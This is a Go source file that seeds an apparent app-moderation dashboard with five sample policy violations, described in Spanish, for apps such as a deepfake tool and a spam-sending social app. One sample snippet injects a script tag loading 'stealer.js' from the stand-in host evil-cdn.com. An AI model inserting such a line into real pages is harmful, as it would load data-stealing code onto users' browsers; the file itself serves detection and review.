package store

import "github.com/afuentes/centinela/pkg/types"

// Seed returns the initial violation set loaded at startup.
func Seed() []types.Violation {
	return []types.Violation{
		{
			ID:     "APP-882",
			Name:   "NeuralGen Pro",
			Policy: "Contenido sexualmente explícito",
			Status: types.StatusFlagged,
			Risk:   types.RiskHigh,
			Date:   "2026-02-22",
			Year:   2026,
			Month:  "Febrero",
			Area:   "Generación de Contenido",
			Details: types.ViolationDetails{
				Location:    "src/components/ImageGenerator.tsx:142",
				Snippet:     "const generatePrompt = (input) => { return `NSFW ${input}`; };",
				Explanation: "El sistema detectó un prefijo que fuerza la generación de contenido no apto para todo público.",
			},
		},
		{
			ID:     "APP-441",
			Name:   "ChatBot-X",
			Policy: "Discurso de odio",
			Status: types.StatusInReview,
			Risk:   types.RiskMedium,
			Date:   "2026-02-21",
			Year:   2026,
			Month:  "Febrero",
			Area:   "Comunicación",
			Details: types.ViolationDetails{
				Location:    "src/api/chat.ts:88",
				Snippet:     "if (user.isMinor) { allowUnfilteredChat = true; }",
				Explanation: "Se detectó una lógica que desactiva los filtros de seguridad para usuarios menores de edad.",
			},
		},
		{
			ID:     "APP-102",
			Name:   "EasyScraper",
			Policy: "Malware, phishing o suplantación de identidad",
			Status: types.StatusBanned,
			Risk:   types.RiskCritical,
			Date:   "2026-01-20",
			Year:   2026,
			Month:  "Enero",
			Area:   "Herramientas de Datos",
			Details: types.ViolationDetails{
				Location:    "public/index.html:12",
				Snippet:     `<script src="https://evil-cdn.com/stealer.js"></script>`,
				Explanation: "Inyección de script externo malicioso detectada en el punto de entrada de la aplicación.",
			},
		},
		{
			ID:     "APP-993",
			Name:   "SocialConnect",
			Policy: "Acoso",
			Status: types.StatusResolved,
			Risk:   types.RiskLow,
			Date:   "2025-12-19",
			Year:   2025,
			Month:  "Diciembre",
			Area:   "Redes Sociales",
			Details: types.ViolationDetails{
				Location:    "src/utils/notifications.ts:45",
				Snippet:     "sendSpam(user.contacts);",
				Explanation: "Función que permite el envío masivo de mensajes no solicitados a contactos del usuario.",
			},
		},
		{
			ID:     "APP-555",
			Name:   "DeepFake Studio",
			Policy: "Suplantación de identidad",
			Status: types.StatusAppeal,
			Risk:   types.RiskHigh,
			Date:   "2025-11-18",
			Year:   2025,
			Month:  "Noviembre",
			Area:   "Multimedia",
			Details: types.ViolationDetails{
				Location:    "src/utils/face_swap.py:22",
				Snippet:     "def swap_identity(target, source): ...",
				Explanation: "Modelo de IA optimizado para la creación de deepfakes sin marcas de agua de seguridad.",
			},
		},
	}
}
